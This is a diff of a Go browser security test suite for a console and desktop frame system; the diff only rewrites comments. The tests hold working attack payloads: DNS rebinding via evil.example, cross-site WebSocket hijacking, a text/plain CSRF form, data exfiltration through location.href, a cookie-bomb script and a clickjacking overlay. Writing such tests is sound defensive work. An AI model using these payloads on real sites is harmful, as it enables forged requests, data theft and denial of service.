@@ -15,9 +15,9 @@ import (
 	"choir.dev/choiros/internal/defence"
 )
 
-// browserRows are what only a real browser shows: whether it does what an answer
-// of ours tells it. The control plane is the real one; the computer is played,
-// for it has to be worse than one that runs can be made to be, or says nothing.
+// browserRows are attacks that only a real browser can show: whether it obeys our answers. The
+// control plane is the real one. The computer is played, since it has to be worse than a real one
+// can be made.
 var browserRows = []Row{
 	withBrowser(20, "somebody's DNS points their name at our port (rebinding)", func(t *testing.T, v *visitor) Verdict {
 		v.open(t, fmt.Sprintf("http://evil.example:%d/claim", v.port))
@@ -25,7 +25,7 @@ var browserRows = []Row{
 		return Verdict{strings.HasSuffix(got, " true"), got}
 	}, defence.ControlHost),
 	withBrowser(20, "another desktop's page opens this one's socket to the dev server, with the user's cookie", func(t *testing.T, v *visitor) Verdict {
-		// Of one site, so that the cookie goes with it.
+		// This page is of the same site, so that the cookie is sent with its requests.
 		other, ticket := v.ticket(t, string(v.other.cid))
 		h := origin(v.console, "same-site", "navigate", "iframe")
 		h.Set("Content-Type", "application/x-www-form-urlencoded")
@@ -33,9 +33,9 @@ var browserRows = []Row{
 		v.signedIn(t)
 		got := v.desktopRuns(t, fmt.Sprintf(`try { const s = new WebSocket(%q, 'vite-hmr'); s.onopen = s.onerror = () => said('ended') } catch { said('refused') }`, strings.Replace(other, "http", "ws", 1)+"/"), nil, "")
 		return Verdict{v.other.asked() > 0, got}
-	}, defence.ControlPolicy, defence.ControlOrigin), // of a socket a browser does not say which site it is from
+	}, defence.ControlPolicy, defence.ControlOrigin), // for a WebSocket, a browser does not send the site
 	withBrowser(24, "a foreign page starts a run with the user's cookie", func(t *testing.T, v *visitor) Verdict {
-		// A form's text is JSON if its one field's name and value are chosen so.
+		// A form's text is JSON if the name and the value of its one field are chosen so.
 		v.foreign(t, fmt.Sprintf(`<form method=post enctype=text/plain action=%q><input name='{"id":"%s","text":"' value='"}'></form>`,
 			v.console+"/api/computers/"+string(v.mine.cid)+"/prompts", contract.NewID()))
 		v.leave(t, "document.querySelector('form').submit()")
@@ -63,11 +63,12 @@ var browserRows = []Row{
 	withBrowser(22, "a desktop's page leaves with data in the address it goes to", leaves(`location.href = 'OUT/secret'`, nil), defence.ControlFrames),
 	withBrowser(22, "a desktop's page opens a window elsewhere, in a frame that forgot to say that it may not", popup, defence.ControlSandbox),
 	withBrowser(22, "a desktop's page sends the console so many cookies, for a year, that it answers nothing any more", func(t *testing.T, v *visitor) Verdict {
-		// It is kept out as well, so it tells the console's page when it is done.
+		// The frame that sets the cookies loses its session as well, so it tells the console's page
+		// when it is done.
 		v.desktopRuns(t, `for (let i = 0; i < 170; i++) document.cookie = 'c' + i + '=' + 'A'.repeat(4000) + '; Domain=choir.localhost; Max-Age=31536000; Path=' + (i % 3 ? '/' : '/api')
 			setInterval(() => parent.postMessage('cookies are set', '*'), 50)`, nil,
 			`(window.hears ??= (addEventListener('message', (e) => { window.set ||= e.data === 'cookies are set' }), true)) && !!window.set`)
-		v.open(t, v.console+"/claim") // where no desktop is shown, which would set them again
+		v.open(t, v.console+"/claim") // no desktop is shown here, which would set the cookies again
 		first := v.eval(t, "fetch('/api/account').then((r) => r.status)")
 		all, err := v.Cookies(v.ctx, v.console+"/api/account")
 		if err != nil {
@@ -87,7 +88,7 @@ var browserRows = []Row{
 	}, defence.BoxHeadersApart),
 }
 
-// leaves runs a desktop's page that tries to reach the site outside.
+// leaves runs a desktop's page that tries to reach the outside site.
 func leaves(script string, files map[string]served) func(*testing.T, *visitor) Verdict {
 	return func(t *testing.T, v *visitor) Verdict {
 		mine := map[string]served{}
@@ -101,7 +102,8 @@ func leaves(script string, files map[string]served) func(*testing.T, *visitor) V
 		if err := v.Call(v.ctx, "Page.enable", nil, nil); err != nil {
 			t.Fatal(err)
 		}
-		// Of every page of the tab: what the console's own policy refuses its frame.
+		// This listens in every page of the tab, because the console's own policy may be what
+		// refuses its frame.
 		if err := v.Call(v.ctx, "Page.addScriptToEvaluateOnNewDocument", map[string]any{"source": `addEventListener('securitypolicyviolation', (e) => { window.violated = e.effectiveDirective })`}, nil); err != nil {
 			t.Fatal(err)
 		}
@@ -110,11 +112,11 @@ func leaves(script string, files map[string]served) func(*testing.T, *visitor) V
 	}
 }
 
-// popup clicks in a desktop whose page opens a window at every click. The
-// console's frame forbids it as well: here it forgot to.
+// popup clicks in a desktop whose page opens a window at every click. The console's frame forbids
+// that as well, so here its attribute is left out.
 func popup(t *testing.T, v *visitor) Verdict {
 	v.serve(t, script{"assets/stage.js", "frame.sandbox.add(", "void ("})
-	// A click that a busy browser does not count as its user's opens nothing either.
+	// If a busy browser does not count a click as its user's, the click opens nothing either.
 	v.desktopIs(`let no = 0; addEventListener('pointerdown', () => { if (!open('OUT/secret') && ++no === 5) said('refused') }); parent.postMessage({type: 'choir.painted', mode: 'live'}, '*')`, nil)
 	v.open(t, v.console+"/")
 	if err := v.Until(v.ctx, `!!document.querySelector('iframe[data-role=shown]')`); err != nil {
@@ -142,7 +144,7 @@ func said(v *visitor, word string) bool {
 	return false
 }
 
-// replaced is a file system with some files exchanged.
+// replaced is a file system with some files replaced.
 type replaced struct {
 	fs.FS
 	with fstest.MapFS
@@ -155,10 +157,10 @@ func (r replaced) Open(name string) (fs.File, error) {
 	return r.FS.Open(name)
 }
 
-// clickJacked learns where the console has the bell and the button that allows,
-// lays a console that nobody sees over the desktop's page, and has the user
-// click there twice. (The desktop is of the console's site: its cookie goes with
-// the frame, as it does not with another site's.)
+// clickJacked finds out where the console has the bell and the button that allows an act, lays an
+// invisible console over the desktop's page, and makes the user click there twice. (The desktop is
+// of the console's site, so its frame has the console's cookie, which that of another site would
+// not.)
 func clickJacked(t *testing.T, v *visitor) Verdict {
 	v.desktopIs(`parent.postMessage({type: 'choir.painted', mode: 'live'}, '*')`, nil)
 	v.open(t, v.console+"/")
@@ -185,7 +187,7 @@ func clickJacked(t *testing.T, v *visitor) Verdict {
 	v.eval(t, "document.getElementById('bell').click()")
 	allowX, allowY := place("#approvals-list button[data-answer=once]")
 	shown := v.files.opened("assets/frame.js")
-	// The console shows this desktop, in which it shows once more.
+	// The console shows this desktop, which shows the console in a frame.
 	if got := v.desktopRuns(t, fmt.Sprintf(`document.body.style.margin = 0
 		const f = document.createElement('iframe')
 		f.style.cssText = 'position:fixed;inset:0;width:1280px;height:800px;border:0;opacity:0.01'
@@ -194,7 +196,7 @@ func clickJacked(t *testing.T, v *visitor) Verdict {
 		document.body.append(f)`, v.console+"/"), nil, ""); got != "loaded" {
 		t.Fatal(got)
 	}
-	// A frame that was refused has loaded nothing of the console's.
+	// A frame that was refused has loaded none of the console's files.
 	if v.files.opened("assets/frame.js") == shown+1 {
 		return Verdict{false, "the console did not show in the frame"}
 	}
